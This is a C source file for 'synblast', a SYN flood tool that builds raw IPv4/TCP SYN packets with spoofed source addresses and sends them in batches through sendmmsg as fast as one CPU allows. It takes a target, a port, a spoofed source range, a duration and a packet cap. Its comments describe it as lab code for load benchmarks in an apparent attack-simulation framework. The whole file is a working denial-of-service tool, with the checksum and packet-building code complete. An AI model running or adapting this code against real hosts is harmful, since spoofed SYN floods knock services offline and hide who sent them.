/* synblast: IPv4 TCP SYNs from spoofed sources as fast as one CPU can send them
 * (sendmmsg batches over a raw socket), for the benches that need a packet rate the
 * Python generators cannot reach. Lab code: built on demand by swarmlab.attacks.blast,
 * never shipped.
 *
 *   synblast TARGET PORT SRC_BASE NSRC DURATION_S MAX_PACKETS
 *
 * Sources are SRC_BASE + 1 .. SRC_BASE + NSRC (host order arithmetic), source ports and
 * sequence numbers vary so every SYN is a new attempt. Bounded by both DURATION_S and
 * MAX_PACKETS. Prints one JSON line: {"sent": N, "errors": N, "elapsed_s": S}.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define PKT_LEN 40	/* IPv4 header 20 + TCP header 20 */

static uint32_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return sum;
}

static uint32_t add16(const uint8_t *data, size_t len, uint32_t sum)
{
	for (; len > 1; len -= 2, data += 2)
		sum += (uint32_t)data[0] << 8 | data[1];	/* network order words */
	if (len)
		sum += (uint32_t)data[0] << 8;
	return sum;
}

/* The Internet checksum, network order, ready to store with memcpy. */
static void put_csum(uint8_t *at, uint32_t sum)
{
	uint16_t c = htons((uint16_t)~fold(sum));

	memcpy(at, &c, 2);
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void put16(uint8_t *at, uint16_t host)
{
	uint16_t v = htons(host);

	memcpy(at, &v, 2);
}

static void build(uint8_t *p, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport,
		  uint32_t seq)
{
	uint8_t pseudo[12] = { 0 };
	uint32_t nseq = htonl(seq);

	memset(p, 0, PKT_LEN);
	p[0] = 0x45;				/* version 4, IHL 5 */
	put16(p + 2, PKT_LEN);
	p[8] = 64;				/* TTL */
	p[9] = IPPROTO_TCP;
	memcpy(p + 12, &src, 4);
	memcpy(p + 16, &dst, 4);
	put_csum(p + 10, add16(p, 20, 0));
	put16(p + 20, sport);
	put16(p + 22, dport);
	memcpy(p + 24, &nseq, 4);
	p[32] = 5 << 4;				/* data offset */
	p[33] = 0x02;				/* SYN */
	put16(p + 34, 64240);			/* window */
	memcpy(pseudo, &src, 4);
	memcpy(pseudo + 4, &dst, 4);
	pseudo[9] = IPPROTO_TCP;
	put16(pseudo + 10, 20);
	put_csum(p + 36, add16(p + 20, 20, add16(pseudo, 12, 0)));
}

int main(int argc, char **argv)
{
	struct in_addr target, base;
	struct sockaddr_in dest = { .sin_family = AF_INET };
	static uint8_t pkts[BATCH][PKT_LEN];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	unsigned long long sent = 0, errors = 0, max_packets, i = 0;
	double duration, start, end;
	long nsrc, port;
	int fd;

	if (argc != 7 || inet_pton(AF_INET, argv[1], &target) != 1 ||
	    inet_pton(AF_INET, argv[3], &base) != 1) {
		fprintf(stderr, "usage: synblast TARGET PORT SRC_BASE NSRC DURATION_S MAX_PACKETS\n");
		return 2;
	}
	port = strtol(argv[2], NULL, 10);
	nsrc = strtol(argv[4], NULL, 10);
	duration = strtod(argv[5], NULL);
	max_packets = strtoull(argv[6], NULL, 10);
	if (port < 1 || port > 65535 || nsrc < 1 || nsrc > 1 << 20 || !(duration > 0) ||
	    duration > 600 || max_packets < 1) {
		fprintf(stderr, "synblast: port 1-65535, 1 <= NSRC <= 2^20, 0 < DURATION_S <= 600, "
			"MAX_PACKETS >= 1\n");
		return 2;
	}
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);	/* implies IP_HDRINCL */
	if (fd < 0) {
		perror("synblast: raw socket");
		return 1;
	}
	dest.sin_addr = target;
	memset(msgs, 0, sizeof(msgs));
	for (int b = 0; b < BATCH; b++) {
		iov[b].iov_base = pkts[b];
		iov[b].iov_len = PKT_LEN;
		msgs[b].msg_hdr.msg_iov = &iov[b];
		msgs[b].msg_hdr.msg_iovlen = 1;
		msgs[b].msg_hdr.msg_name = &dest;
		msgs[b].msg_hdr.msg_namelen = sizeof(dest);
	}
	start = now_s();
	end = start + duration;
	while (sent + errors < max_packets && now_s() < end) {
		unsigned long long left = max_packets - sent - errors;
		int n = left < BATCH ? (int)left : BATCH, done;

		for (int b = 0; b < n; b++, i++) {
			uint32_t src = htonl(ntohl(base.s_addr) + 1 + (uint32_t)(i % (unsigned long)nsrc));

			build(pkts[b], src, target.s_addr, (uint16_t)(1024 + i % 64000), (uint16_t)port,
			      (uint32_t)(i * 2654435761u));
		}
		done = sendmmsg(fd, msgs, n, 0);
		if (done < 0) {
			errors += n;
			if (errno != ENOBUFS && errno != EAGAIN && errno != EPERM)
				break;
		} else {
			sent += done;
			errors += n - done;
		}
	}
	printf("{\"sent\": %llu, \"errors\": %llu, \"elapsed_s\": %.3f}\n", sent, errors,
	       now_s() - start);
	close(fd);
	return 0;
}
